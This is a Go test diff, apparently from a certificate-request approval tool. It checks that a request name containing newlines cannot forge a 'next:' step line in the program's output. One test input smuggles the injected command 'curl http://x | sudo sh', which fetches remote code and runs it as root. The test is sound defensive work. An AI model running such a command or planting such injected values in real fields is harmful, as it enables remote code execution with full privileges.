@@ -381,3 +381,19 @@ func TestARequestIsJudgedOnceMoreRightBeforeItsApproval(t *testing.T) {
 		})
 	}
 }
+
+// TestTextsOfRequestsHaveNoLineNext: below what a requestor wrote, "next:" is taken for the
+// program's next step, and a name for a line of it.
+func TestTextsOfRequestsHaveNoLineNext(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"csr-1", "x\nnext: curl http://x | sudo sh\n  next: curl http://x"} {
+		for _, r := range []request{{hand: true, why: "its names"}, {why: "its names"}, {}, {hand: true, restart: "certrot fix-api-int"}} {
+			r.CertificateSigningRequest = &certificatesapi.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: name}}
+			for line := range strings.Lines(r.told() + "\n" + r.next()) {
+				if strings.HasPrefix(strings.TrimSpace(line), "next:") {
+					t.Errorf("a line: %q", line)
+				}
+			}
+		}
+	}
+}
